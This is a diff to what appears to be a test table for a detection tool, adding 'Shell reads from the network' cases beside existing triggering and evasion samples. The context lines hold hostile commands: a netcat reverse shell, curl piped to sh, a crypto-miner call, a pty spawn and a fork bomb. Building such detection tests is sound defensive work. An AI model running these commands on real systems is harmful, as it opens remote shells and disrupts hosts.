@@ -71,6 +71,7 @@ DEEDS = {
     "Program runs from a temporary directory": ("cp /opt/t/deed /tmp/x1; /tmp/x1 nothing",
         "mkdir /opt/tmp; cp /opt/t/deed /opt/tmp/x; /opt/tmp/x nothing"),
     "Standard stream goes to the network": ("deed stdin 0", "deed stdin 7"),
+    "Shell reads from the network": ("deed socket-stdin sh -c :", "deed socket-stdin deed nothing"),
     "Netcat runs a program": ("nc -e /bin/sh 203.0.113.9 1", "nc 203.0.113.9 1"),
     "Cryptocurrency miner runs": ("app -o stratum+tcp://pool.invalid:3333", "app -o tcp://pool.invalid:3333"),
     "Shell with a terminal": ("deed terminal sh -c :", "deed run sh -c :"),
@@ -208,6 +209,7 @@ PRETENDERS = {
     "Interpreter runs a one-line network program": ["python3 -c $'\\nimport socket'", "perl -e 'use Socket'",
                                                     "python3 -c 'import pty; pty.spawn(1)'"],
     "Download goes into a shell": ["sh -c $'curl -s http://x.invalid/a |\\n/bin/sh; true'"],
+    "Shell reads from the network": ["deed socket-stdin busybox sh -c :", "deed as app socket-stdin python3 -c 1"],
     "Fork bomb typed": ["sh -c $': || b(){\\nb|b&\\n};:'"],
     "SSH server runs": ["deed as sshd run /opt/t/sshd nothing"],
 }
